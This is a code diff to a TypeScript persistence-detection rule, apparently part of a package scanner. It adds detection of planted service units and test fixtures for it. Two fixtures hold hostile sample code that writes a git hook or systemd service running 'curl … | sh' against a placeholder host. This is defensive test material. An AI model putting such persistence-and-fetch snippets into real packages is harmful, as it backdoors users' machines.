@@ -1,3 +1,4 @@
+import { HOLE } from '../lib/types.ts'
 import type { Action, Context, Fact, Flow, Inspection, Rule, Text } from '../lib/types.ts'
 import { oncePerLine } from './behaviour/once.ts'
 import { isProgram, isSuspiciousText, unasked, writtenBy } from './behaviour/written.ts'
@@ -55,6 +56,11 @@ const footholds: readonly Foothold[] = [
   { what: 'npm’s own settings of this user', weight: 1, path: /^~\/\.npmrc$|^~\/\.yarnrc|\/etc\/npmrc$/ },
 ] // prettier-ignore
 
+/** Descriptions of services, by what they say: where they lie may be computed. */
+const unit =
+  /^\[(?:Service|Desktop Entry)\][^]{0,2000}^Exec(?:Start(?:Pre|Post)?)?=|<key>ProgramArguments<\/key>/m
+const services: Foothold = { what: 'the background services', weight: 2, path: unit }
+
 /** A program under the name of a hook, in a folder that is asked of git: `git rev-parse --git-path hooks`. */
 const hookByName =
   /^(?:\S*\u0001)?\/?(?:hooks\/)?(?:applypatch-msg|commit-msg|fsmonitor-watchman|p(?:ost|re)-(?:applypatch|checkout|commit|merge|merge-commit|push|rebase|receive|rewrite|update)|prepare-commit-msg|reference-transaction|update)$/
@@ -85,6 +91,14 @@ export const persistence: Rule = {
             'package.json': '{"name":"a","version":"1.0.0","scripts":{"postinstall":"node i.js"}}',
             'i.js':
               "const dir = require('child_process').execSync('git rev-parse --git-path hooks').toString().trim()\nrequire('fs').writeFileSync(dir + '/post-merge', '#!/bin/sh\\ncurl -s https://h.invalid/x | sh\\n')\n",
+          },
+        },
+        {
+          title: 'a function writes a service, wherever its caller keeps them, that fetches what it starts',
+          files: {
+            'package.json': '{"name":"a","version":"1.0.0","main":"i.js"}',
+            'i.js':
+              "const fs = require('fs')\nexports.register = place =>\n  fs.writeFileSync(place('a'), '[Unit]\\nDescription=a\\n[Service]\\nExecStart=/bin/sh -c \"curl -s https://h.invalid/a | sh\"\\n')\n",
           },
         },
         {
@@ -130,6 +144,14 @@ export const persistence: Rule = {
         },
       ],
       passes: [
+        {
+          title: 'a function writes a service that starts the program of its caller',
+          files: {
+            'package.json': '{"name":"a","version":"1.0.0","main":"i.js"}',
+            'i.js':
+              "const fs = require('fs')\nexports.register = (place, program) =>\n  fs.writeFileSync(place('a'), `[Unit]\\nDescription=a\\n[Service]\\nExecStart=${program}\\n`)\n",
+          },
+        },
         {
           title: 'a command lets the user’s own key in',
           files: {
@@ -193,12 +215,17 @@ function ofWrite(
 ): readonly RuleFinding[] {
   // On import a bare name lies where the program was started.
   const bare = written.phase === 'import' ? written.paths.filter(path => /^\.?\w[^/]*$/.test(path)) : []
-  for (const path of [...written.paths, ...bare.map(name => `./${name}`)]) {
+  const found = [...written.paths, ...bare.map(name => `./${name}`)].flatMap(path => {
     const foothold =
       footholds.find(one => one.path.test(path)) ??
       ofGit(path, written.contents) ??
       (hookByName.test(path) && written.contents.some(isHarmfulHook) ? gitHooks : undefined)
-    if (foothold === undefined || (foothold === built && isOwnSettings(path, written, context))) continue
+    return foothold === undefined ? [] : [{ path, foothold }]
+  })
+  // Where a service lies may be computed; what it starts says that it is one.
+  if (written.contents.some(isHarmfulUnit)) found.push({ path: written.paths[0] ?? HOLE, foothold: services })
+  for (const { path, foothold } of found) {
+    if (foothold === built && isOwnSettings(path, written, context)) continue
     const asked = foothold === gitHooks && (manages || isOfProject(written)) && !written.flows.some(isFetched)
     const weighed =
       program && foothold.usual === true && !written.contents.some(isSuspiciousText)
@@ -214,7 +241,8 @@ function ofWrite(
 
 /** What is changed, and with what: a table that only a program keeps has no path. */
 function changeInWords(path: Text, { what }: Foothold, { contents, api }: Written): string {
-  const text = (contents.find(isTelling) ?? contents.find(content => content.trim().length > 3))?.trim()
+  const whole = contents.find(isTelling) ?? contents.find(content => content.trim().length > 3)
+  const text = (whole?.split('\n').find(isTelling) ?? whole)?.trim()
   if (/[/\\]/.test(path))
     return `changes ${quote(path)}, ${what}${text === undefined ? '' : `: it writes ${quote(text)}`}`
   return /^[\w.-]+$/.test(api) && text !== undefined
@@ -241,6 +269,10 @@ function isFetched({ source: { kind } }: Flow): boolean {
 /** A hook that honest managers of hooks do not write: for where it lies, its name is all there is. */
 function isHarmfulHook(text: Text): boolean {
   return /^\s*#!/.test(text) && isSuspiciousText(text)
+}
+
+function isHarmfulUnit(text: Text): boolean {
+  return unit.test(text) && isSuspiciousText(text)
 }
 
 /** Settings by which git itself starts programs; its other settings start nothing. */
